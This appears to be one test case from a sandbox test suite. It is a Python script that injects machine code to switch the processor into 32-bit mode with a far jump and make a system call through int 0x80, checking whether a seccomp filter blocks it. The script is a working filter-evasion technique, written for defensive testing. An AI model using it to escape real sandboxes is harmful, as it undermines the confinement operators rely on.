# attack: switch the processor to its 32-bit mode by a far jump, and enter the kernel from there
# expect: SV
# needs: int80
# stopped-by: seccomp
import ctypes
import mmap

MAP_32BIT, NOWHERE = 0x40, ctypes.c_void_p(-1).value
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
FLAGS = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT
base = libc.mmap(None, 4096, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC, FLAGS, -1, 0)
assert base != NOWHERE


def at(offset):
    return (base + offset).to_bytes(4, "little")


wide = bytes.fromhex("48892425") + at(0x800)  # mov [saved], rsp
wide += bytes.fromhex("ff2c25") + at(0x900)  # jmp far [target] (QEMU gets a far return wrong)
target = at(0x40) + bytes.fromhex("2300")
narrow = bytes.fromhex("b814000000" "cd80" "ea") + at(0x80) + bytes.fromhex("3300")  # getpid; jmp 0x33:back
back = bytes.fromhex("488b2425") + at(0x800) + bytes.fromhex("c3")  # mov rsp, [saved]; ret
for offset, code in ((0, wide), (0x40, narrow), (0x80, back), (0x900, target)):
    ctypes.memmove(base + offset, code, len(code))
print("breached" if ctypes.CFUNCTYPE(ctypes.c_int)(base)() > 0 else "held")
